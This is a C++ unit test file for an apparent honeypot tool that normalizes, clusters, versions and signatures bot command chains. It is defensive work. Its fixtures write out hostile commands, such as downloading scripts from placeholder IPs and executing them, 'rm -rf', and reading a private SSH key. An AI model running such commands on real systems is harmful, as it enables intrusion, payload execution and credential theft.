#include "catch_amalgamated.hpp"

#include <algorithm>
#include <sstream>

#include "adlah/chains.hpp"
#include "adlah/rng.hpp"

using namespace adlah;

namespace {

std::vector<InteractionLog> make_logs(const std::vector<std::string>& commands) {
    std::vector<InteractionLog> logs;
    SimTime t = 100;
    for (const auto& c : commands) {
        logs.push_back({t, "1.2.3.4", c});
        t += 10;
    }
    return logs;
}

CanonicalChain chain_of(const std::vector<std::string>& commands) {
    return canonicalize(make_logs(commands));
}

// ---------------------------------------------------------------------------
// Brute-force GED oracle: plain exhaustive enumeration of node mappings, no
// pruning, written independently of the search in the library.
// ---------------------------------------------------------------------------

int oracle_edge_delta(std::vector<std::string> a, std::vector<std::string> b) {
    std::sort(a.begin(), a.end());
    std::sort(b.begin(), b.end());
    std::vector<std::string> inter;
    std::set_intersection(a.begin(), a.end(), b.begin(), b.end(), std::back_inserter(inter));
    return int(std::max(a.size(), b.size()) - inter.size());
}

std::vector<std::string> oracle_labels(const ChainGraph& g, int u, int v) {
    std::vector<std::string> out;
    for (const auto& e : g.edges)
        if (e.from == u && e.to == v) out.push_back(e.label);
    return out;
}

double oracle_cost(const ChainGraph& g1, const ChainGraph& g2, const std::vector<int>& map) {
    const int n1 = int(g1.nodes.size()), n2 = int(g2.nodes.size());
    double cost = 0.0;
    std::vector<bool> used(n2, false);
    for (int u = 0; u < n1; ++u) {
        if (map[u] < 0) {
            cost += 1.0;
        } else {
            used[map[u]] = true;
            if (g1.nodes[u] != g2.nodes[map[u]]) cost += 1.0;
        }
    }
    for (int v = 0; v < n2; ++v)
        if (!used[v]) cost += 1.0;
    // all ordered node pairs (including self-loops) of g1
    for (int u = 0; u < n1; ++u)
        for (int w = 0; w < n1; ++w) {
            const auto l1 = oracle_labels(g1, u, w);
            if (map[u] >= 0 && map[w] >= 0)
                cost += oracle_edge_delta(l1, oracle_labels(g2, map[u], map[w]));
            else
                cost += double(l1.size());
        }
    // g2 edges not covered by the mapping image
    for (const auto& e : g2.edges)
        if (!used[e.from] || !used[e.to]) cost += 1.0;
    return cost;
}

void oracle_enumerate(const ChainGraph& g1, const ChainGraph& g2, std::vector<int>& map,
                      std::vector<bool>& used, int depth, double& best) {
    const int n1 = int(g1.nodes.size());
    if (depth == n1) {
        best = std::min(best, oracle_cost(g1, g2, map));
        return;
    }
    map[depth] = -1;
    oracle_enumerate(g1, g2, map, used, depth + 1, best);
    for (int v = 0; v < int(g2.nodes.size()); ++v) {
        if (used[v]) continue;
        used[v] = true;
        map[depth] = v;
        oracle_enumerate(g1, g2, map, used, depth + 1, best);
        used[v] = false;
        map[depth] = -1;
    }
}

double brute_force_ged(const ChainGraph& g1, const ChainGraph& g2) {
    std::vector<int> map(g1.nodes.size(), -1);
    std::vector<bool> used(g2.nodes.size(), false);
    double best = std::numeric_limits<double>::infinity();
    oracle_enumerate(g1, g2, map, used, 0, best);
    return best;
}

ChainGraph random_graph(Rng& rng, int max_nodes) {
    static const std::vector<std::string> node_labels = {"a", "b", "c", "d", "e"};
    static const std::vector<std::string> edge_labels = {"next", "uses"};
    ChainGraph g;
    const int n = 1 + int(rng.uniform_int(max_nodes));
    std::set<std::string> chosen;
    for (int i = 0; i < n; ++i)
        chosen.insert(node_labels[rng.uniform_int(node_labels.size())] + std::to_string(i % 3));
    for (const auto& label : chosen) g.nodes.push_back(label);
    const int m = int(rng.uniform_int(2 * g.nodes.size()));
    for (int i = 0; i < m; ++i)
        g.edges.push_back({int(rng.uniform_int(g.nodes.size())),
                           int(rng.uniform_int(g.nodes.size())),
                           edge_labels[rng.uniform_int(2)]});
    return g;
}

}  // namespace

TEST_CASE("normalize_command masking") {
    CHECK(normalize_command("WGET http://1.2.3.4/x.sh") == "wget <url>");
    CHECK(normalize_command("ping 10.0.0.1") == "ping <ip>");
    CHECK(normalize_command("echo deadbeef00cafe12") == "echo <hex>");
    CHECK(normalize_command("cat /home/bob/.ssh/id_rsa") == "cat <home>/.ssh/id_rsa");
    CHECK(normalize_command("ls /root") == "ls <home>");
    CHECK(normalize_command("kill pid=1234 now") == "kill now");
    CHECK(normalize_command("run [4321] job") == "run job");
    CHECK(normalize_command("touch -t 1699999999 f") == "touch -t f");
    CHECK(normalize_command("  spaced   out  ") == "spaced out");

    SECTION("idempotent on already-masked text") {
        for (const char* s : {"wget <url>", "ping <ip>", "echo <hex>", "cat <home>/x"})
            CHECK(normalize_command(s) == s);
    }
}

TEST_CASE("canonicalize") {
    SECTION("retry merge") {
        const auto c = chain_of({"wget http://1.2.3.4/x.sh", "wget http://1.2.3.4/x.sh"});
        CHECK(c.tokens == std::vector<std::string>{"wget <url>"});
    }
    SECTION("loop compression: ls x6 becomes one token plus the cycle marker") {
        const auto c = chain_of({"ls", "ls", "ls", "ls", "ls", "ls"});
        CHECK(c.tokens == std::vector<std::string>{"ls", kLoopMarker});
    }
    SECTION("period-2 loops compress too") {
        const auto c = chain_of({"a1", "b2", "a1", "b2", "a1", "b2", "done"});
        CHECK(c.tokens == std::vector<std::string>{"a1", "b2", kLoopMarker, "done"});
    }
    SECTION("two repetitions are a retry, not a loop") {
        const auto c = chain_of({"ls", "ls", "pwd"});
        CHECK(c.tokens == std::vector<std::string>{"ls", "pwd"});
    }
    SECTION("empty logs are a precondition error") {
        CHECK_THROWS_AS(canonicalize({}), ValidationError);
    }
    SECTION("unordered logs are rejected") {
        std::vector<InteractionLog> logs = {{200, "x", "a"}, {100, "x", "b"}};
        CHECK_THROWS_AS(canonicalize(logs), ValidationError);
    }
    SECTION("re-canonicalizing any output is the identity (idempotence property)") {
        Rng rng(31);
        const std::vector<std::string> vocab = {
            "ls",  "pwd", "uname -a", "wget http://198.51.100.4/a.sh", "chmod 777 a.sh",
            "./a", "rm -rf /tmp/x", "echo deadbeefdeadbeef", "cat /home/u/f"};
        for (int trial = 0; trial < 200; ++trial) {
            std::vector<std::string> cmds;
            const int n = 1 + int(rng.uniform_int(20));
            for (int i = 0; i < n; ++i) {
                const auto& c = vocab[rng.uniform_int(vocab.size())];
                const int reps = 1 + int(rng.uniform_int(5));
                for (int r = 0; r < reps; ++r) cmds.push_back(c);
            }
            const auto once = canonicalize_tokens(cmds);
            const auto twice = canonicalize_tokens(once);
            CHECK(twice == once);
        }
    }
    SECTION("graph structure: nodes are distinct labels plus resources") {
        const auto c = chain_of({"wget http://9.9.9.9/x", "chmod +x x", "./x"});
        // tokens: "wget <url>", "chmod +x x", "./x"; resources: <url>
        CHECK(c.graph.nodes.size() == 4);
        CHECK(c.graph.find_node("<url>") >= 0);
        int temporal = 0, resource = 0;
        for (const auto& e : c.graph.edges) {
            if (e.label == "next") ++temporal;
            if (e.label == "uses") ++resource;
        }
        CHECK(temporal == 2);
        CHECK(resource == 1);
    }
}

TEST_CASE("sequence distance") {
    const std::vector<std::string> a = {"x", "y", "z"};
    CHECK(sequence_distance(a, a) == 0.0);
    CHECK(sequence_distance(a, {"x", "q", "z"}) == 1.0);
    CHECK(sequence_distance(a, {"x", "y"}) == 1.0);
    CHECK(sequence_distance({}, a) == 3.0);

    SECTION("symmetry, identity, upper bound (property)") {
        Rng rng(12);
        const std::vector<std::string> vocab = {"a", "b", "c", "d"};
        for (int it = 0; it < 300; ++it) {
            std::vector<std::string> s1(rng.uniform_int(8)), s2(rng.uniform_int(8));
            for (auto& t : s1) t = vocab[rng.uniform_int(4)];
            for (auto& t : s2) t = vocab[rng.uniform_int(4)];
            const double d12 = sequence_distance(s1, s2);
            CHECK(d12 == sequence_distance(s2, s1));
            CHECK(d12 >= 0.0);
            CHECK(d12 <= double(s1.size() + s2.size()));
            if (s1 == s2) CHECK(d12 == 0.0);
            if (d12 == 0.0) CHECK(s1 == s2);
        }
    }
}

TEST_CASE("graph edit distance") {
    SECTION("identical chains have distance (0, 0)") {
        const auto c = chain_of({"uname -a", "wget http://1.2.3.4/x", "exit"});
        const auto d = chain_similarity(c, c);
        CHECK(d.seq == 0.0);
        CHECK(d.graph == 0.0);
    }
    SECTION("appending one stage costs one node plus one edge") {
        const auto base = chain_of({"s1", "s2", "s3", "s4"});
        const auto ext = chain_of({"s1", "s2", "s3", "s4", "s5"});
        CHECK(graph_edit_distance(base.graph, ext.graph) == 2.0);
        CHECK(graph_edit_distance(ext.graph, base.graph) == 2.0);
    }
    SECTION("exact GED equals brute-force enumeration on random small pairs") {
        Rng rng(77);
        for (int it = 0; it < 60; ++it) {
            const ChainGraph g1 = random_graph(rng, 5);
            const ChainGraph g2 = random_graph(rng, 5);
            const double fast = graph_edit_distance(g1, g2);
            const double slow = brute_force_ged(g1, g2);
            INFO("pair " << it << ": fast=" << fast << " slow=" << slow);
            CHECK(fast == slow);
        }
    }
    SECTION("metric-ish properties on canonical chains") {
        const auto a = chain_of({"x1", "x2", "x3"});
        const auto b = chain_of({"x1", "y2", "x3", "y4"});
        CHECK(graph_edit_distance(a.graph, b.graph) ==
              graph_edit_distance(b.graph, a.graph));
        CHECK(graph_edit_distance(a.graph, a.graph) == 0.0);
        CHECK(graph_edit_distance(a.graph, b.graph) > 0.0);
    }
    SECTION("graphs above the size bound are refused") {
        ChainGraph big;
        for (int i = 0; i < 26; ++i) big.nodes.push_back("n" + std::to_string(i));
        ChainGraph small;
        small.nodes.push_back("a");
        CHECK_THROWS_WITH(graph_edit_distance(big, small),
                          Catch::Matchers::ContainsSubstring("too large for exact GED"));
    }
}

TEST_CASE("cluster_assign") {
    ChainStoreConfig cfg;
    cfg.eps = 3.0;
    cfg.min_pts = 3;

    SECTION("first chain ever is a provisional outlier") {
        ChainStore store(cfg);
        const auto res = store.add_chain(chain_of({"a", "b"}), 100, "TELNET", 23);
        CHECK(res.outlier);
        CHECK_FALSE(res.promoted_now);
        CHECK(res.family_id.empty());
    }

    SECTION("three near-identical chains promote on the third at 1.0.0") {
        ChainStore store(cfg);
        const std::vector<std::string> script = {"wget http://1.2.3.4/a.sh", "chmod 777 a.sh",
                                                 "sh a.sh"};
        store.add_chain(chain_of(script), 100, "TELNET", 23);
        store.add_chain(chain_of(script), 200, "TELNET", 23);
        const auto res = store.add_chain(chain_of(script), 300, "TELNET", 23);
        CHECK(res.promoted_now);
        CHECK_FALSE(res.outlier);
        CHECK(res.version == VersionTuple{1, 0, 0});
        CHECK(res.family_id == "wgetkit1");
        REQUIRE(store.families().size() == 1);
        CHECK(store.families()[0]->vector_label == "wget");
    }

    SECTION("a distant chain seeds a new provisional cluster") {
        ChainStore store(cfg);
        store.add_chain(chain_of({"a1", "a2", "a3", "a4", "a5"}), 100, "SSH", 22);
        const auto res =
            store.add_chain(chain_of({"z1", "z2", "z3", "z4", "z5"}), 200, "HTTP", 80);
        CHECK(res.outlier);
        CHECK(res.cluster_index == 1);
        CHECK(store.clusters().size() == 2);
    }

    SECTION("clustering is order-insensitive for well-separated synthetic families") {
        const std::vector<std::vector<std::string>> fam_a = {
            {"a1", "a2", "a3", "a4", "a5"},
            {"a1", "a2", "a3", "a4", "a5"},
            {"a1", "a2x", "a3", "a4", "a5"}};
        const std::vector<std::vector<std::string>> fam_b = {
            {"b1", "b2", "b3", "b4", "b5"},
            {"b1", "b2", "b3", "b4", "b5"},
            {"b1", "b2", "b3x", "b4", "b5"}};
        const std::vector<std::vector<std::string>> fam_c = {
            {"c1", "c2", "c3", "c4", "c5"},
            {"c1", "c2", "c3", "c4", "c5"},
            {"c1", "c2", "c3", "c4x", "c5"}};

        std::vector<std::pair<char, std::vector<std::string>>> all;
        for (const auto& s : fam_a) all.push_back({'a', s});
        for (const auto& s : fam_b) all.push_back({'b', s});
        for (const auto& s : fam_c) all.push_back({'c', s});

        Rng rng(55);
        for (int perm = 0; perm < 25; ++perm) {
            for (std::size_t i = all.size() - 1; i > 0; --i)
                std::swap(all[i], all[rng.uniform_int(i + 1)]);
            ChainStore store(cfg);
            std::map<std::size_t, std::set<char>> members;
            SimTime t = 0;
            for (const auto& [tag, script] : all) {
                const auto res = store.add_chain(chain_of(script), t += 10, "TCP", 80);
                members[res.cluster_index].insert(tag);
            }
            // exactly 3 clusters, each pure
            REQUIRE(members.size() == 3);
            for (const auto& [idx, tags] : members) CHECK(tags.size() == 1);
            for (const auto& cluster : store.clusters()) {
                CHECK(cluster.member_count == 3);
                CHECK(cluster.promoted);
            }
        }
    }
}

TEST_CASE("assign_version bumping") {
    ChainStoreConfig cfg;  // t_major 4 (graph units), t_minor 2 (seq units)
    const std::vector<std::string> base = {"s1 alpha", "s2 beta", "s3 gamma", "s4 delta",
                                           "s5 epsilon"};

    auto promoted_family = [&] {
        Family fam;
        fam.promoted = true;
        fam.family_id = "testkit1";
        fam.vector_label = "s1";
        fam.platform = "unknown";
        fam.version = {2, 1, 3};
        fam.representatives.push_back(chain_of(base));
        fam.proto_counts["TELNET"] = 3;
        return fam;
    };

    SECTION("exact duplicate leaves the version unchanged") {
        Family fam = promoted_family();
        CHECK(assign_version(chain_of(base), fam, cfg) == BumpKind::none);
        CHECK(fam.version == VersionTuple{2, 1, 3});
    }
    SECTION("structural change bumps MAJOR: 2.1.3 -> 3.0.0") {
        Family fam = promoted_family();
        // three appended stages: graph delta = 3 nodes + 3 edges >= 4
        auto mutated = base;
        mutated.push_back("s6 zeta");
        mutated.push_back("s7 eta");
        mutated.push_back("s8 theta");
        CHECK(assign_version(chain_of(mutated), fam, cfg) == BumpKind::major);
        CHECK(fam.version == VersionTuple{3, 0, 0});
    }
    SECTION("template delta bumps MINOR: 2.1.3 -> 2.2.0") {
        Family fam = promoted_family();
        auto mutated = base;
        mutated[1] = "s2 beta-changed";  // two substitutions: seq 2, graph 2
        mutated[3] = "s4 delta-changed";
        CHECK(assign_version(chain_of(mutated), fam, cfg) == BumpKind::minor);
        CHECK(fam.version == VersionTuple{2, 2, 0});
    }
    SECTION("cosmetic delta bumps PATCH: 2.1.3 -> 2.1.4") {
        Family fam = promoted_family();
        auto mutated = base;
        mutated[2] = "s3 gamma-variant";  // one substitution
        CHECK(assign_version(chain_of(mutated), fam, cfg) == BumpKind::patch);
        CHECK(fam.version == VersionTuple{2, 1, 4});
    }
    SECTION("unpromoted family is a precondition error") {
        Family fam;
        CHECK_THROWS_AS(assign_version(chain_of(base), fam, cfg), ValidationError);
    }
    SECTION("version sequences are monotone in semver order (property)") {
        Family fam = promoted_family();
        Rng rng(9);
        VersionTuple prev = fam.version;
        for (int it = 0; it < 50; ++it) {
            auto mutated = base;
            const int kind = int(rng.uniform_int(3));
            if (kind == 0) {
                mutated[rng.uniform_int(mutated.size())] += " v" + std::to_string(it);
            } else if (kind == 1) {
                mutated[1] += " v" + std::to_string(it);
                mutated[3] += " w" + std::to_string(it);
            } else {
                for (int k = 0; k < 3; ++k)
                    mutated.push_back("extra" + std::to_string(it) + "-" + std::to_string(k));
            }
            assign_version(chain_of(mutated), fam, cfg);
            const auto& v = fam.version;
            const bool greater =
                std::tie(v.major, v.minor, v.patch) >=
                std::tie(prev.major, prev.minor, prev.patch);
            CHECK(greater);
            prev = v;
        }
    }
}

TEST_CASE("format_name") {
    CHECK(format_name("mirailike", "TELNET", "bruteforce", "linux", {2, 1, 0}) ==
          "ADLAH.BOT.mirailike.TELNET.bruteforce.linux:2.1.0");
    CHECK(format_name("x1", "SSH", "wget-curl", "unknown", {1, 0, 0}) ==
          "ADLAH.BOT.x1.SSH.wget-curl.unknown:1.0.0");
    CHECK_THROWS_AS(format_name("Bad", "TELNET", "v", "p", {1, 0, 0}), ValidationError);
    CHECK_THROWS_AS(format_name("ok", "telnet", "v", "p", {1, 0, 0}), ValidationError);
    CHECK_THROWS_AS(format_name("", "TELNET", "v", "p", {1, 0, 0}), ValidationError);

    SECTION("output always matches the grammar regex") {
        const std::regex grammar(
            R"(^ADLAH\.BOT\.[a-z0-9]+\.[A-Z]+\.[a-z0-9-]+\.[a-z0-9-]+:\d+\.\d+\.\d+$)");
        for (const auto& name :
             {format_name("abc9", "HTTP", "redis-rce", "linux-arm", {10, 2, 33}),
              format_name("k", "TCP", "x", "unknown", {0, 0, 1})})
            CHECK(std::regex_match(name, grammar));
    }

    SECTION("the worked name round-trips through parse") {
        const std::string name = "ADLAH.BOT.mirailike.TELNET.bruteforce.linux:2.1.0";
        const ParsedName p = parse_name(name);
        CHECK(p.family == "mirailike");
        CHECK(p.proto == "TELNET");
        CHECK(p.vector == "bruteforce");
        CHECK(p.platform == "linux");
        CHECK(p.version == VersionTuple{2, 1, 0});
        CHECK(format_name(p.family, p.proto, p.vector, p.platform, p.version) == name);
        CHECK_THROWS_AS(parse_name("ADLAH.BOT.bad"), ValidationError);
    }
}

TEST_CASE("export_signature") {
    ChainStoreConfig cfg;
    cfg.min_pts = 1;  // promote instantly for this test

    SECTION("common prefix across representatives is exported") {
        ChainStoreConfig wide = cfg;
        wide.eps = 10.0;  // let the variants land in one family
        ChainStore store(wide);
        store.add_chain(chain_of({"wget http://1.1.1.1/a", "chmod +x a", "exec a", "rm a"}),
                        100, "TELNET", 23);
        store.add_chain(chain_of({"wget http://2.2.2.2/b", "chmod +x b", "exec b"}), 200,
                        "TELNET", 23);
        REQUIRE(store.families().size() == 1);
        const auto sig = store.export_signature(*store.families()[0]);
        CHECK(sig.rule.front() == "wget <url>");
        CHECK_FALSE(sig.warning);
        CHECK(sig.proto == "TELNET");
        CHECK(sig.port_hints == std::vector<int>{23});
    }

    SECTION("single representative exports its full token list") {
        ChainStore store(cfg);
        store.add_chain(chain_of({"uname -a", "id"}), 100, "SSH", 22);
        const auto sig = store.export_signature(*store.families()[0]);
        CHECK(sig.rule == std::vector<std::string>{"uname -a", "id"});
    }

    SECTION("empty common subsequence sets the warning flag") {
        Family fam;
        fam.promoted = true;
        fam.family_id = "wkit1";
        fam.vector_label = "w";
        fam.representatives.push_back(chain_of({"aaa", "bbb"}));
        fam.representatives.push_back(chain_of({"ccc", "ddd"}));
        ChainStore store(cfg);
        const auto sig = store.export_signature(fam);
        CHECK(sig.rule.empty());
        CHECK(sig.warning);
    }
}

TEST_CASE("store persistence round-trips") {
    ChainStoreConfig cfg;
    cfg.min_pts = 2;
    ChainStore store(cfg);
    const std::vector<std::string> script = {"uname -a", "wget http://9.9.9.9/kit.arm",
                                             "chmod +x kit.arm", "./kit.arm"};
    store.add_chain(chain_of(script), 100, "SSH", 22);
    store.add_chain(chain_of(script), 250, "SSH", 22);
    auto mutated = script;
    mutated[0] = "uname -sr";
    store.add_chain(chain_of(mutated), 300, "SSH", 22);
    store.add_chain(chain_of({"totally", "different", "chain"}), 400, "HTTP", 80);

    const auto j = store.to_json();
    const ChainStore back = ChainStore::from_json(j, cfg);
    CHECK(back.to_json().dump() == j.dump());
    REQUIRE(back.families().size() == store.families().size());
    CHECK(format_name(*back.families()[0]) == format_name(*store.families()[0]));
    CHECK(back.families()[0]->platform == "linux-arm");  // marker-derived
}
